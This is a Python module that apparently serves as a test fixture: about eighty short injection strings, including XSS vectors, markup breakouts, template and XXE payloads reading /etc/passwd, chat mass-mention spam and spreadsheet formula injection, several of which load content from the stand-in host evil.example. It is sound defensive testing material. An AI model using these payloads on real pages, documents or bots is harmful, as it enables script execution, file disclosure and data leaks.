"""Eighty texts that somebody may type to make a page, a robot, a list or a document do something: none is longer than a short note.

Whatever runs sets ``window.hit``; whatever opens leads to ``evil.example``. By class, so that a new one finds its place.
"""

ELEMENTS = (
    "<script>window.hit=1</script>",
    "<ScRiPt>window.hit=1</sCrIpT >",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script type=module>import'//evil.example/x.js'</script>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:hit=1></object>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import'//evil.example/x.css';*{display:none}</style>",
    "<template><script>window.hit=1</script></template>",
    "<portal src=//evil.example></portal>",
)
HANDLERS = (
    "<img src=x onerror=window.hit=1>",
    "<img/src=`x`/onerror=window.hit=1>",
    "<IMG SRC=x OnErRoR=window.hit=1//",
    "<svg onload=window.hit=1>",
    "<svg/onload=window.hit=1//",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><set onbegin=window.hit=1 attributeName=x>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<audio src=x onerror=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<a style=animation-name:x onanimationstart=window.hit=1>",
    "<div popover id=p onbeforetoggle=window.hit=1>",
)
ADDRESSES = (
    "<a href=javascript:window.hit=1>点这里</a>",
    "<a href='jav&#x09;ascript:window.hit=1'>点这里</a>",
    "<a href=data:text/html,<script>hit=1</script>>点</a>",
    "<form action=javascript:hit=1><button>好</button></form>",
    "<button form=x formaction=javascript:hit=1>好</button>",
    "javascript:window.hit=1//",
    "<svg><a xlink:href=javascript:hit=1><text>点</text></a></svg>",
    "<math><mi xlink:href=javascript:hit=1>点</mi></math>",
)
BREAKOUTS = (
    '"><img src=x onerror=window.hit=1>',
    "'><svg onload=window.hit=1>",
    '" onmouseover=window.hit=1 autofocus onfocus=hit=1 x="',
    "`;window.hit=1;//",
    "';window.hit=1;'",
    "</title><img src=x onerror=hit=1>",
    "</textarea><img src=x onerror=hit=1>",
    "--><img src=x onerror=window.hit=1><!--",
    "]]><img src=x onerror=window.hit=1>",
    "</script><script>window.hit=1</script>",
    "</style><img src=x onerror=hit=1>",
)
PARSERS = (
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit=1>",
    "<svg></p><style><a id='</style><img src=x onerror=hit=1>'>",
    "<form id=forms><input name=elements><input name=body>",
    "<img name=cookie><a id=location href=//evil.example>",
    "<img src='//evil.example/?",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;img src=x onerror=hit=1&#62;",
    "＜script＞window.hit=1＜/script＞",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cimg src=x onerror=window.hit=1\\u003e",
    "+ADw-script+AD4-hit=1+ADw-/script+AD4-",
)
TEMPLATES = (
    "{{7*7}}{{constructor.constructor('hit=1')()}}",
    "{% include '/etc/passwd' %}",
    "${window.hit=1}#{hit=1}<%=hit=1%>",
    "{who}{way}{0.__class__}%(n)s",
    "__proto__[hit]=1",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<![CDATA[<script>hit=1</script>]]>",
)
ROBOTS = (
    "@all @所有人 快看",
    '<at user_id="all">所有人</at><@all>',
    "[点这里](http://evil.example/x) **急**",
    "见 https://evil.example/领奖 或 evil.example",
)
CELLS = (
    '=HYPERLINK("http://evil.example","点")',
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1＋1",
    "＋1－1＠SUM(1)",
    "|calc;=1+1",
)

PAYLOADS = (*ELEMENTS, *HANDLERS, *ADDRESSES, *BREAKOUTS, *PARSERS, *TEMPLATES, *ROBOTS, *CELLS)
LONGEST = 80
